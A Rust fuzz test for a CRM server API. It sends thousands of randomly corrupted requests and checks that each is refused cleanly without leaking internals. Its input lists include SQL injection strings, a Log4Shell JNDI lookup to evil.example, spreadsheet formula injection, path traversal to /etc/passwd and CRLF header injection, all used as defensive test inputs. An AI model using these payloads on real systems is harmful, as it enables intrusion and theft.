//! Requests that were good until something in them was changed by chance: thousands of them, made
//! from the document, so that an operation that is added is tried by itself.
//!
//! Each is refused as documented, or answered as documented; what is refused has written nothing,
//! and a field that was spoilt is named. A failure names the seed of its request.
//! `CRM_GARBAGE_SEED` makes it alone again, `CRM_GARBAGE_REQUESTS` asks for more of them.

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use crm_server::testkit::{
    Answer, Ask, Document, Form, Furnished, Listening, Operation, Place, Sampler, Server, Source,
    Tenants,
};
use hyper::Method;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};
use serde_json::{Value, json};

use crate::support::{Backend, Founder, GIVEN, TestServer, Watched, check};

/// After so many requests a new tenant takes over: what is good is done, and may have emptied or
/// closed the one before.
const OF_ONE_TENANT: u64 = 500;
/// The longest that one request may take, on a machine that has other things to do.
const PATIENCE: Duration = Duration::from_secs(20);
/// How much more memory there may be at the end, in MiB: what was accepted is kept.
const MEMORY: u64 = 400;

static DOCUMENT: LazyLock<Document> = LazyLock::new(|| {
    Document::new(serde_json::from_str(include_str!("../../openapi.json")).unwrap()).unwrap()
});

static CODES: LazyLock<HashSet<String>> = LazyLock::new(|| {
    let codes = "/components/schemas/Fault/properties/code";
    let codes = &DOCUMENT.root().pointer(codes).unwrap()["x-extensible-enum"];
    codes.as_array().unwrap().iter().map(|code| code.as_str().unwrap().to_owned()).collect()
});

/// What stands for a piece of JSON that no JSON library writes.
const RAW: &str = "@raw@";

/// Pieces of JSON, good and bad, that hardly any field takes.
static HOSTILE: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut all: Vec<String> = [
        "null",
        "true",
        "[]",
        "{}",
        "\"\"",
        "\" \"",
        "0",
        "-1",
        "1.5",
        "-0.0",
        "1e400",
        "-1e400",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "1e-400",
        "123456789012345678901234567890.123456789",
        "NaN",
        "Infinity",
        "0x10",
        "01",
        "+1",
        "1.",
        "\"a\\u0000b\"",
        "\"\\ud800\"",
        "\"\\udc00\\ud800\"",
        "\"\\uffff\"",
        "\"\\x41\"",
        "'a'",
        "\"=cmd|'/c calc'!A0\"",
        "\"@SUM(1+1)*cmd\"",
        "\"'; DROP TABLE customers; --\"",
        "\"' OR '1'='1\"",
        "\"${jndi:ldap://evil.example/a}\"",
        "\"{{7*7}}\"",
        "\"<script>1</script>\"",
        "\"../../etc/passwd\"",
        "\"a\\r\\nBcc: x@evil.example\"",
        "\"\\u202e\\u200d\\ufeff\"",
        "\"0197d8a0-0000-7000-8000-000000000000\"",
        "\"0197d8a0\"",
        "\"2026-02-30\"",
        "\"9999-12-31T23:59:60Z\"",
        "\"+262142-12-31\"",
        "\"-0001-01-01\"",
        "[null]",
        "[[]]",
        "[{}]",
        "{\"$ne\": null}",
        "{\"__proto__\": {}}",
        "[\"a\", \"a\"]",
        "[1, \"a\", null]",
        "\"a\nb\"",
        "\"unclosed",
        "}",
        "]",
        ",",
        "",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push(format!("\"{}\"", "x".repeat(300)));
    all.push(format!("\"{}\"", "é".repeat(20_000)));
    all.push(format!("\"{}\"", "x".repeat(1 << 20)));
    all.push(format!("[{}1]", "1,".repeat(2_000)));
    all.push(format!("{}1{}", "[".repeat(40), "]".repeat(40)));
    all.push(format!("{}1{}", "{\"a\":".repeat(500), "}".repeat(500)));
    all
});

/// Texts for parameters and headers.
const TEXTS: &[&str] = &[
    "",
    " ",
    "0",
    "-1",
    "1.5",
    "abc",
    "null",
    "true",
    "99999999999999999999",
    "9223372036854775807",
    "\u{0}",
    "a\u{0}b",
    "%",
    "_",
    "\\",
    "'",
    "\"",
    "'; DROP TABLE customers; --",
    "*",
    "=1+1",
    "(",
    ")",
    "[",
    "]",
    "a,b",
    ",",
    "a=b",
    "\u{202e}",
    "💩",
    "ﬁ",
    "é",
    "2026-02-30",
    "../../..",
    "0197d8a0-0000-7000-8000-000000000000",
    "00000000-0000-0000-0000-000000000000",
    "NOT",
    "a AND",
    "name = \"a",
    "((((((((((((((((((((((((((((((((((a))))))))))))))))))))))))))))))))))",
    "-name",
    "customFields.x",
    "W10",
    "bnVsbA",
];

const HEADERS: &[(&str, &[u8])] = &[
    ("If-Match", b"\"0\""),
    ("If-Match", b"1"),
    ("If-Match", b"\"\xff\""),
    ("If-Match", b"W/"),
    ("If-Match", b"\"99999999999999999999\""),
    ("X-Tenant-ID", b"\xff"),
    ("X-Tenant-ID", b"*"),
    ("X-Tenant-ID", b"0197d8a0-0000-7000-8000-000000000000"),
    ("Authorization", b"Bearer x"),
    ("Authorization", b"\xff"),
    ("Content-Type", b"text/plain"),
    ("Content-Type", b"\xff"),
    ("Content-Type", b"application/json; charset=utf-16"),
    ("Content-Encoding", b"gzip"),
    ("Content-Encoding", b"identity"),
    ("Accept", b"text/html"),
    ("Accept", b"\xff"),
    ("Accept-Encoding", b"br;q=9, \xff"),
    ("Idempotency-Key", b"\xff"),
    ("Idempotency-Key", b""),
    ("X-Request-ID", b"\xff\xfe"),
    ("Origin", b"\xff"),
    ("Range", b"bytes=9-1"),
    ("If-None-Match", b"*"),
    ("Expect", b"nothing"),
    ("X-HTTP-Method-Override", b"DELETE"),
    ("X-Forwarded-For", b"::::, \xff"),
    ("Cookie", b"a=\xff; ; =;"),
    ("If-Modified-Since", b"x"),
];

/// A request that was spoilt.
struct Spoilt {
    ask: Ask,
    /// Whether the operation of the document is still what it asks for.
    known: bool,
    /// The one field of the body that is not as it was, where only that was changed.
    field: Option<String>,
    /// The body before it was changed.
    good: Option<Value>,
}

/// What is wrong where a refusal is about something else than what was spoilt.
const UNNAMED: &str = "the field that was spoilt is not named";

struct World<'a> {
    server: &'a Listening,
    furnished: Furnished<'a>,
}

impl<'a> World<'a> {
    async fn new(server: &'a Listening, founder: &'a Founder<'a>, number: u64) -> Self {
        let member = founder.tenant(&format!("acme{number}")).await;
        let source = Source { server, document: &DOCUMENT, tenants: founder, given: &GIVEN };
        let furnished = Furnished::new(source, member, "Acme", &BTreeSet::new()).await;
        Self { server, furnished }
    }

    /// A good request to an operation.
    async fn good(&mut self, operation: &Operation) -> (Ask, Option<Value>) {
        let nobodys = || operation.path_with(|_| "0197d8a0-0000-7000-8000-000000000000".to_owned());
        let path = self.furnished.path(operation).unwrap_or_else(nobodys);
        let path = path.split('?').next().unwrap_or_default().to_owned();
        let body = self.furnished.body(operation, &path).await;
        let ask = Ask::new(operation.method.clone(), path);
        let ask = if operation.guarded { ask.by(&self.furnished.member.token) } else { ask };
        (ask, body)
    }
}

async fn spoil(world: &mut World<'_>, dice: &mut StdRng) -> (&'static Operation, Spoilt) {
    let operation = DOCUMENT.operations().choose(dice).unwrap();
    let (ask, body) = world.good(operation).await;
    let mut spoilt = Spoilt { ask, known: true, field: None, good: body.clone() };
    let ways = if body.is_some() { 12 } else { 5 };
    let json = body.as_ref().map(|body| body.to_string().into_bytes());
    let mut octets = json.unwrap_or_default();
    let mut content_type: Option<&str> = body.is_some().then_some("application/json");
    match dice.random_range(0..ways) {
        0 => query(operation, &mut spoilt, dice),
        1 => header(&mut spoilt, dice),
        2 => path(&mut spoilt, dice),
        3 => method(operation, &mut spoilt, dice),
        4 => {
            query(operation, &mut spoilt, dice);
            header(&mut spoilt, dice);
        }
        5 => {
            let types =
                ["", "text/plain", "application/xml", "multipart/form-data", "a/b/c", "*/*"];
            content_type = types.choose(dice).copied().filter(|of| !of.is_empty());
        }
        6 => octets.truncate(dice.random_range(0..=octets.len())),
        7 => {
            for _ in 0..dice.random_range(1..4) {
                let at = dice.random_range(0..octets.len());
                octets[at] = *b"\0\x01\x7f\xff\xc3\xed\"\\{}[],:0e".choose(dice).unwrap();
            }
        }
        8 => {
            let behind = ["x", "{}", "\0", " \u{feff}", "]", ",", "{\"a\":"].choose(dice).unwrap();
            let before = dice.random_bool(0.5);
            let parts = [behind.as_bytes(), octets.as_slice()];
            octets = if before { parts.concat() } else { [parts[1], parts[0]].concat() };
        }
        _ => {
            let (text, field) = field(body.unwrap_or_default(), dice);
            (octets, spoilt.field) = (text.into_bytes(), field);
        }
    }
    spoilt.ask.body = octets;
    if let Some(content_type) = content_type {
        spoilt.ask = spoilt.ask.with("Content-Type", content_type);
    }
    (operation, spoilt)
}

/// Changes fields of a body. Answers its text, and the one field that was changed.
fn field(mut body: Value, dice: &mut StdRng) -> (String, Option<String>) {
    let names: Vec<String> =
        body.as_object().map(|body| body.keys().cloned().collect()).unwrap_or_default();
    let Some(name) = names.choose(dice).cloned() else { return (body.to_string(), None) };
    let hostile = HOSTILE.choose(dice).unwrap();
    let raw = json!(RAW).to_string();
    let written = |body: Value| body.to_string().replace(&raw, hostile);
    match dice.random_range(0..8) {
        0 => {
            body.as_object_mut().unwrap().remove(&name);
            (body.to_string(), None)
        }
        1 => {
            body["colour"] = json!(RAW);
            (written(body), None)
        }
        2 => {
            let twice = format!("{{\"{name}\":{hostile},");
            (body.to_string().replacen('{', &twice, 1), None)
        }
        3 => {
            let value = body.as_object_mut().unwrap().remove(&name).unwrap();
            body[name.to_uppercase()] = value;
            (body.to_string(), None)
        }
        4 => {
            // Deeper, where there is something deeper.
            match &mut body[&name] {
                Value::Array(items) => items.push(json!(RAW)),
                Value::Object(inner) => drop(inner.insert("inner".to_owned(), json!(RAW))),
                other => *other = json!([RAW]),
            }
            (written(body), Some(name))
        }
        _ => {
            body[&name] = json!(RAW);
            (written(body), Some(name))
        }
    }
}

fn query(operation: &Operation, spoilt: &mut Spoilt, dice: &mut StdRng) {
    let known: Vec<_> = operation.parameters.iter().filter(|p| p.place == Place::Query).collect();
    let mut query = String::new();
    for _ in 0..dice.random_range(1..4) {
        let name = match known.choose(dice) {
            Some(parameter) if dice.random_bool(0.9) => {
                let also = parameter.also.choose(dice).filter(|_| dice.random_bool(0.5));
                also.unwrap_or(&parameter.name).clone()
            }
            _ => "colour".to_owned(),
        };
        let text = match dice.random_range(0..20) {
            0 => "a".repeat(9_000),
            1 => "(".repeat(400) + &")".repeat(400),
            2 => "a,".repeat(3_000),
            3 => {
                query.push_str(&format!("&{}=%ff%c0", percent(&name)));
                continue;
            }
            _ => (*TEXTS.choose(dice).unwrap()).to_owned(),
        };
        query.push_str(&format!("&{}={}", percent(&name), percent(&text)));
        if dice.random_bool(0.1) {
            query = query.repeat(120);
        }
    }
    query.truncate(60_000);
    spoilt.ask.path = format!("{}?{}", spoilt.ask.path, query.trim_start_matches('&'));
}

fn header(spoilt: &mut Spoilt, dice: &mut StdRng) {
    let (name, value) = HEADERS.choose(dice).unwrap();
    let ask = std::mem::replace(&mut spoilt.ask, Ask::new(Method::GET, ""));
    spoilt.ask = match dice.random_range(0..10) {
        0 => ask.with(name, vec![b'a'; 9_000]),
        1 => ask.with(name, value).with(name, b"twice"),
        2 => (0..60).fold(ask, |ask, n| ask.with(&format!("X-Other-{n}"), b"a")),
        _ => ask.with(name, value),
    };
}

fn path(spoilt: &mut Spoilt, dice: &mut StdRng) {
    spoilt.known = false;
    let mut segments: Vec<String> = spoilt.ask.path.split('/').map(str::to_owned).collect();
    let odd = ["", ".", "..", "%2e%2e", "%00", "%ff", "%2f", "'", "~", ";a=b", "%F0%9F%92%A9", "*"];
    let odd = (*odd.choose(dice).unwrap()).to_owned();
    match dice.random_range(0..4) {
        0 => segments.push(odd),
        1 => segments.insert(dice.random_range(1..=segments.len()), odd),
        2 => {
            let last = segments.len() - 1;
            segments[last] = percent(TEXTS.choose(dice).unwrap());
        }
        _ => {
            let at = dice.random_range(1..segments.len());
            segments[at].push_str(&odd);
        }
    }
    spoilt.ask.path = segments.join("/");
}

fn method(operation: &Operation, spoilt: &mut Spoilt, dice: &mut StdRng) {
    let methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "get", "HEAD"];
    let method: Method = methods.choose(dice).unwrap().parse().unwrap();
    spoilt.known = method == operation.method;
    spoilt.ask.method = method;
}

fn percent(text: &str) -> String {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~[]".contains(byte);
    let octet =
        |byte: u8| if plain(&byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") };
    text.bytes().map(octet).collect()
}

/// What is wrong with an answer; nothing, where it is as documented.
fn wrong(operation: &Operation, spoilt: &Spoilt, answer: &Answer, wrote: usize) -> Option<String> {
    let status = answer.status;
    if spoilt.known && !operation.statuses.contains(&status) && status != 431 {
        return Some("a status that is not documented".to_owned());
    }
    if spoilt.known {
        let of = spoilt.ask.headers.iter().rev().find(|(name, _)| name == "Content-Type");
        let of = of.and_then(|(_, value)| std::str::from_utf8(value).ok());
        let (method, path) = (&spoilt.ask.method, spoilt.ask.path.as_str());
        // What was granted is held against the document elsewhere: chance may have spoilt nothing.
        let sent = (of.filter(|_| status >= 400), &spoilt.ask.body[..]);
        let faults = check(method, path, sent, status, &answer.headers, &answer.body);
        if !faults.is_empty() && status != 431 {
            return Some(faults.join("; "));
        }
    }
    if !(200..500).contains(&status) {
        return Some("no answer of ours".to_owned());
    }
    if status < 400 || spoilt.ask.method == Method::HEAD || status == 431 {
        return None;
    }
    if wrote > 0 && !operation.path.contains("/auth/") {
        return Some(format!("{wrote} records were written"));
    }
    let body = answer.json();
    let text = body.to_string().to_lowercase();
    let inside = ["sqlx", "postgres", "select ", "constraint", "panick", "::", "src/", "serde"];
    let sent = String::from_utf8_lossy(&spoilt.ask.body).to_lowercase();
    if let Some(word) = inside.iter().find(|w| text.contains(**w) && !sent.contains(**w)) {
        let path = spoilt.ask.path.to_lowercase();
        if !path.contains("%3a%3a") {
            return Some(format!("it tells what is inside: {word}"));
        }
    }
    let known: HashSet<&str> = ["success", "message", "errors", "requestId"].into();
    let members = body.as_object().into_iter().flat_map(|members| members.keys());
    let members: HashSet<_> = members.map(String::as_str).collect();
    let message = body["message"].as_str().unwrap_or_default();
    let Some(errors) = body["errors"].as_array().filter(|_| members == known) else {
        return Some("it is not in the envelope".to_owned());
    };
    if body["success"] != false || message.is_empty() {
        return Some("it says nothing".to_owned());
    }
    let said = |error: &Value| {
        CODES.contains(error["code"].as_str().unwrap_or_default())
            && error["message"].as_str().is_some_and(|message| !message.is_empty())
    };
    if errors.is_empty() || !errors.iter().all(said) {
        return Some("an error has no documented code, or says nothing".to_owned());
    }
    let listed = operation.codes.get(&status).filter(|_| spoilt.known);
    let unlisted = |error: &&Value| {
        listed.is_some_and(|codes| !codes.contains(error["code"].as_str().unwrap_or_default()))
    };
    if let Some(error) = errors.iter().find(unlisted) {
        return Some(format!("{} is not listed for this operation", error["code"]));
    }
    let of_the_body = ["INVALID_JSON", "TOO_DEEP", "BODY_TOO_LARGE", "DUPLICATE_FIELD"];
    match &spoilt.field {
        Some(field) if matches!(status, 400 | 422) => {
            let names = |error: &Value| {
                let at = error["field"].as_str().unwrap_or_default();
                at.starts_with(field.as_str())
                    || of_the_body.contains(&error["code"].as_str().unwrap())
            };
            (!errors.iter().any(names)).then(|| UNNAMED.to_owned())
        }
        _ => None,
    }
}

/// How much memory the process has, in MiB.
pub(crate) fn memory() -> u64 {
    let statm = std::fs::read_to_string("/proc/self/statm").unwrap_or_default();
    let pages: u64 = statm.split(' ').nth(1).and_then(|n| n.parse().ok()).unwrap_or_default();
    pages * 4 / 1_024
}

fn from_env(name: &str) -> Option<u64> {
    std::env::var(name).ok().and_then(|text| text.parse().ok())
}

async fn thousands(backend: Backend) {
    let (server, watched) = TestServer::watched_writing(backend).await;
    let (first, count) = match from_env("CRM_GARBAGE_SEED") {
        Some(seed) => (seed, from_env("CRM_GARBAGE_REQUESTS").unwrap_or(1)),
        None => (1, from_env("CRM_GARBAGE_REQUESTS").unwrap_or(10_000)),
    };
    let door = Listening(server.address());
    let founder = Founder::at(&door);
    let mut world = World::new(&door, &founder, first).await;
    let (before, mut statuses) = (memory(), BTreeMap::<u16, usize>::new());
    let mut found = Vec::new();
    for seed in first..first + count {
        if seed % OF_ONE_TENANT == 0 {
            world = World::new(&door, &founder, seed).await;
        }
        found.extend(one(&mut world, &watched, seed, &mut statuses).await);
        assert!(found.len() < 30, "{}", found.join("\n"));
    }
    let after = memory();
    println!("{count} requests: {statuses:?}; memory {before} MiB, then {after} MiB");
    assert!(found.is_empty(), "{}", found.join("\n"));
    assert!(after < before + MEMORY, "{before} MiB, then {after} MiB");
    server.stop().await;
}

async fn one(
    world: &mut World<'_>,
    watched: &Watched,
    seed: u64,
    statuses: &mut BTreeMap<u16, usize>,
) -> Option<String> {
    let mut dice = StdRng::seed_from_u64(seed);
    let (operation, spoilt) = spoil(world, &mut dice).await;
    let (written, asked) = (watched.all(), Instant::now());
    let answer = world.server.ask(spoilt.ask.clone()).await;
    *statuses.entry(answer.status).or_default() += 1;
    let shown =
        |octets: &[u8]| String::from_utf8_lossy(&octets[..octets.len().min(600)]).into_owned();
    let wrong = wrong(operation, &spoilt, &answer, watched.all() - written)
        .or_else(|| (asked.elapsed() > PATIENCE).then(|| format!("took {:?}", asked.elapsed())))?;
    if let (UNNAMED, Some(good)) = (wrong.as_str(), &spoilt.good) {
        // Chance may have made it of what is not good any more, or never was.
        let ask = Ask { body: good.to_string().into_bytes(), ..spoilt.ask.clone() };
        if world.server.ask(ask).await.status >= 400 {
            return None;
        }
    }
    let Ask { method, path, body, .. } = &spoilt.ask;
    let path: String = path.chars().take(300).collect();
    let headers: Vec<String> = spoilt
        .ask
        .headers
        .iter()
        .filter(|(name, _)| name != "Authorization")
        .map(|(name, value)| format!("{name}: {}", shown(&value[..value.len().min(80)])))
        .collect();
    Some(format!(
        "seed {seed}, {}: {wrong}\n    {method} {path} {headers:?}\n    {}\n    {} {}",
        operation.name,
        shown(body),
        answer.status,
        shown(&answer.body)
    ))
}

#[tokio::test]
async fn ten_thousand_spoilt_requests_are_refused_as_documented_on_memory() {
    thousands(Backend::Memory).await;
}

#[tokio::test]
async fn ten_thousand_spoilt_requests_are_refused_as_documented_on_postgres() {
    thousands(Backend::Postgres).await;
}

/// What is made from a seed is made again from it.
#[test]
fn a_seed_makes_the_same_again() {
    let made = |seed: u64| {
        let mut dice = StdRng::seed_from_u64(seed);
        let body = json!({"name": "a", "tags": ["b"], "address": {"city": "c"}});
        field(body, &mut dice)
    };
    assert!((0..200).all(|seed| made(seed) == made(seed)));
    assert!((0..200).any(|seed| made(seed).0 != made(seed + 1).0));
    let mut sampler = Sampler::new("Acme");
    let form = Form::new(json!({"type": "object", "properties": {"name": {"type": "string"}}}));
    let first = sampler.body(&DOCUMENT, &form, &|_| None);
    assert_ne!(first, sampler.body(&DOCUMENT, &form, &|_| None), "what may be unique is new");
}
